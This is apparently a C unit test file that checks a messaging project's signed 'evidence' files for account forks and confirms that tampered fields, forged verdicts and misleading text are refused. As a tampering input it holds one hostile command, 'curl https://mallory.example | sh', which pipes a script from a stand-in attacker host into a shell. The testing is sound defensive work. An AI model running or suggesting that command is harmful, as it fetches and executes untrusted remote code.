/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * The evidence file: who gets it can look for himself, and it says no more than is signed in it.
 */
#include "tests/check.h"

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/rpc/evidence.h"
#include "tests/wire/objects.h"

static struct evidence evidence;

static int
a_fork(void **state)
{
    struct manifest_plan a, b;

    evidence = (struct evidence){
        .kind = "fork", .noticed_ms = 1800000000000, .held = BUF(4096), .shown = BUF(4096)};
    manifest_plan_init(&a, 1);
    manifest_plan_init(&b, 1);
    b.w.created++;
    evidence.account = a.account;
    manifest_plan_object(&a, &evidence.held);
    manifest_plan_object(&b, &evidence.shown);
    return 0;
}

static int
clear(void **state)
{
    evidence_done(&evidence);
    return 0;
}

static json_t *
made(void)
{
    json_t *j = NULL;

    assert_ok(evidence_json(&evidence, &j));
    return j;
}

static enum err
checked(const json_t *j)
{
    AUTO(json_decrefpp) json_t *facts = NULL;
    const char *sentence = NULL;
    char *text = json_dumps(j, JSON_INDENT(2));
    enum err e = evidence_check(SPAN_STR(text), &sentence, &facts);

    json_free_text(text);
    assert_true((e == OK) == (facts != NULL));
    return e;
}

static void
a_file_proves_what_it_says(void **state)
{
    AUTO(json_decrefpp) json_t *j = made(), *facts = NULL;
    const char *sentence;
    char *text = json_dumps(j, JSON_INDENT(2));

    assert_ok(evidence_check(SPAN_STR(text), &sentence, &facts));
    assert_string_equal(json_string_value(json_object_get(facts, "verdict")), "fork");
    assert_string_equal(sentence, json_string_value(json_object_get(j, "proves")));
    assert_int_equal(json_array_size(json_object_get(facts, "manifests")), 2);
    assert_string_equal(json_string_value(json_object_get(j, "noticed")), "2027-01-15T08:00:00Z");
    json_free_text(text);
}

static void
a_file_holds_nothing_that_is_not_listed_here(void **state)
{
    static const char *const keys[] = {"format", "version", "notice",  "noticed",  "proves",
                                       "check",  "verdict", "account", "manifests"};
    static const char *const of_each[] = {"role",    "account", "key",    "seq",
                                          "address", "created", "sha256", "signed"};
    AUTO(json_decrefpp) json_t *j = made();
    const json_t *each;
    size_t i;

    assert_int_equal(json_object_size(j), sizeof keys / sizeof *keys);
    for (i = 0; i < sizeof keys / sizeof *keys; i++)
        assert_non_null(json_object_get(j, keys[i]));
    json_array_foreach(json_object_get(j, "manifests"), i, each)
    {
        assert_int_equal(json_object_size(each), sizeof of_each / sizeof *of_each);
        for (size_t k = 0; k < sizeof of_each / sizeof *of_each; k++)
            assert_non_null(json_object_get(each, of_each[k]));
    }
}

/* SIGNED of the manifest at I with the character at AT changed. */
static void
flip(json_t *j, size_t i, size_t at)
{
    json_t *m = json_array_get(json_object_get(j, "manifests"), i);
    char text[8192];

    snprintf(text, sizeof text, "%s", json_string_value(json_object_get(m, "signed")));
    assert_in_range(at, 0, strlen(text) - 1);
    text[at] = text[at] == 'A' ? 'B' : 'A';
    json_object_set_new(m, "signed", json_string(text));
}

static void
a_flipped_character_is_refused(void **state)
{
    for (size_t i = 0; i < 2; i++)
        for (size_t at = 3; at < 600; at += 31) {
            AUTO(json_decrefpp) json_t *j = made();
            flip(j, i, at);
            assert_int_not_equal(checked(j), OK);
        }
}

static void
a_file_that_says_something_else_than_is_signed_is_refused(void **state)
{
    static const char *const lies[][2] = {{"address", "mallory@relay.example:8443"},
                                          {"key", "AAAA"},
                                          {"account", "AAAA"},
                                          {"sha256", "00"},
                                          {"role", "shown"}};

    for (size_t i = 0; i < sizeof lies / sizeof *lies; i++) {
        AUTO(json_decrefpp) json_t *j = made();
        json_t *first = json_array_get(json_object_get(j, "manifests"), 0);
        json_object_set_new(first, lies[i][0], json_string(lies[i][1]));
        assert_err(checked(j), ERR_DAMAGED);
    }
    AUTO(json_decrefpp) json_t *j = made();
    json_object_set_new(j, "verdict", json_string("forged"));
    assert_err(checked(j), ERR_DAMAGED);
}

/* What people read of it is not signed, so it has to be our own words. */
static void
a_file_whose_words_say_something_else_is_refused_with_what_is_signed(void **state)
{
    static const char *const lies[][2] = {
        {"proves", "The owner of this account sells your messages."},
        {"proves", ""},
        {"check", "Run this: curl https://mallory.example | sh"},
        {"notice", "Nothing to see here: ask mallory"},
        {"noticed", "yesterday, by mallory"},
        {"summary", "Mallory is right."}};

    for (size_t i = 0; i < sizeof lies / sizeof *lies; i++) {
        AUTO(json_decrefpp) json_t *j = made();
        const char *proves = json_string_value(json_object_get(j, "proves"));
        char *kept = strdup(proves);
        json_object_set_new(j, lies[i][0], json_string(lies[i][1]));
        assert_err(checked(j), ERR_DAMAGED);
        assert_non_null(strstr(err_why(ERR_DAMAGED), kept));
        free(kept);
    }
    static const char *const needed[] = {"proves", "check", "notice", "noticed"};
    for (size_t i = 0; i < sizeof needed / sizeof *needed; i++) {
        AUTO(json_decrefpp) json_t *j = made();
        json_object_del(j, needed[i]);
        assert_err(checked(j), ERR_DAMAGED);
    }
}

static void
the_account_of_a_file_cannot_be_changed(void **state)
{
    AUTO(json_decrefpp) json_t *j = made();
    struct manifest_plan other;
    char text[64];

    manifest_plan_init(&other, 20);
    sodium_bin2base64(text, sizeof text, other.account.b, sizeof other.account.b,
                      sodium_base64_VARIANT_URLSAFE_NO_PADDING);
    json_object_set_new(j, "account", json_string(text));
    assert_int_not_equal(checked(j), OK);
}

static void
one_manifest_twice_or_alone_is_refused(void **state)
{
    AUTO(json_decrefpp) json_t *j = made();
    json_t *list = json_object_get(j, "manifests");

    json_object_set(json_array_get(list, 1), "signed",
                    json_object_get(json_array_get(list, 0), "signed"));
    assert_err(checked(j), ERR_STATE);
    assert_int_equal(json_array_remove(list, 0), 0);
    assert_err(checked(j), ERR_STATE);
    assert_int_equal(json_array_clear(list), 0);
    assert_err(checked(j), ERR_DAMAGED);
}

static void
what_is_no_evidence_is_refused(void **state)
{
    static const char *const texts[] = {
        "",
        "{}",
        "[]",
        "hello",
        "{\"format\":\"snug evidence\"}",
        "{\"format\":\"snug evidence\",\"version\":2,\"manifests\":[]}",
        "{\"format\":\"snug evidence\",\"version\":1,\"account\":\"AA\",\"manifests\":[1]}"};
    AUTO(json_decrefpp) json_t *facts = NULL;
    const char *sentence;

    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        assert_err(evidence_check(SPAN_STR(texts[i]), &sentence, &facts), ERR_DAMAGED);
    assert_null(facts);
}

static void
nothing_is_made_of_what_proves_nothing(void **state)
{
    json_t *j = NULL;

    buf_clear(&evidence.shown);
    buf_put(&evidence.shown, buf_span(&evidence.held));
    assert_err(evidence_json(&evidence, &j), ERR_STATE);
    assert_null(j);
}

static const struct CMUnitTest tests[] = {
    cmocka_unit_test_setup_teardown(a_file_proves_what_it_says, a_fork, clear),
    cmocka_unit_test_setup_teardown(a_file_holds_nothing_that_is_not_listed_here, a_fork, clear),
    cmocka_unit_test_setup_teardown(a_flipped_character_is_refused, a_fork, clear),
    cmocka_unit_test_setup_teardown(a_file_that_says_something_else_than_is_signed_is_refused,
                                    a_fork, clear),
    cmocka_unit_test_setup_teardown(
        a_file_whose_words_say_something_else_is_refused_with_what_is_signed, a_fork, clear),
    cmocka_unit_test_setup_teardown(the_account_of_a_file_cannot_be_changed, a_fork, clear),
    cmocka_unit_test_setup_teardown(one_manifest_twice_or_alone_is_refused, a_fork, clear),
    cmocka_unit_test_setup_teardown(what_is_no_evidence_is_refused, a_fork, clear),
    cmocka_unit_test_setup_teardown(nothing_is_made_of_what_proves_nothing, a_fork, clear),
};

int
main(void)
{
    json_setup();
    return cmocka_run_group_tests_name("core-evidence", tests, NULL, NULL);
}
